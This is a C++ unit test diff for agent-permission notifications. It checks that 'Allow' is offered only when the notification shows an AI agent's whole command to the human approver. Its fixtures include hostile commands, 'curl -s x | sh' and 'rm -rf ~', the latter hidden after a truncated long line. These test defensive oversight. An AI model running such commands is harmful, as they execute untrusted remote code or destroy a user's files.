@@ -106,6 +106,42 @@ TEST(NotificationContent, ActionsFollowTheGrantsAndMapToTheirAnswers) {
             AgentReplyDecision::allow);
 }
 
+// "Allow" approves all of the command: it is offered only when the body shows all of it.
+TEST(NotificationContent, OnlyWhatTheBodyShowsWholeCanBeAllowed) {
+  struct Case {
+    std::string name;
+    std::optional<std::string> detail;
+    std::optional<std::string> fullDetail;
+    std::string shown;  // the body after its first line
+    bool allowed;
+  };
+  const std::string longLine(250, 'x');
+  for (const Case& test : {
+           Case{"one line", "git status", "git status", "git status", true},
+           Case{"summary of more lines", "git status", "git status\ncurl -s x | sh",
+                "git status\ncurl -s x | sh", true},
+           Case{"older hook, summary only", "git status", std::nullopt, "git status", true},
+           Case{"nine lines", "l1", "l1\nl2\nl3\nl4\nl5\nl6\nl7\nl8\nl9",
+                "l1\nl2\nl3\nl4\nl5\nl6\n+3 more lines\nOpen Tarvel to see all of it and allow it.",
+                false},
+           Case{"one line too long", "x", longLine + "\nrm -rf ~",
+                std::string(199, 'x') + "\u2026\n+1 more line\nOpen Tarvel to see all of it and allow it.",
+                false},
+       }) {
+    SCOPED_TRACE(test.name);
+    LivePrompt waiting =
+        prompt(AgentPromptKind::permission, {AgentReplyGrant::deny, AgentReplyGrant::allow});
+    waiting.pendingReply.detail = test.detail;
+    waiting.pendingReply.fullDetail = test.fullDetail;
+    const auto notification = Content::forPrompt(waiting, waiting.receivedAt);
+    EXPECT_EQ(notification.body, "Allow this command?\n" + test.shown);
+    const std::vector<std::string> offered =
+        test.allowed ? std::vector<std::string>{"allow", "deny"} : std::vector<std::string>{"deny"};
+    EXPECT_EQ(keys(notification), offered);
+    EXPECT_EQ(Content::reply(waiting, "allow").has_value(), test.allowed);
+  }
+}
+
 TEST(NotificationContent, TheNotificationExpiresWithItsPrompt) {
   const LivePrompt waiting = prompt(AgentPromptKind::permission, {AgentReplyGrant::allow});
   EXPECT_EQ(Content::forPrompt(waiting, waiting.receivedAt + 20s).expireMilliseconds, 100'000);
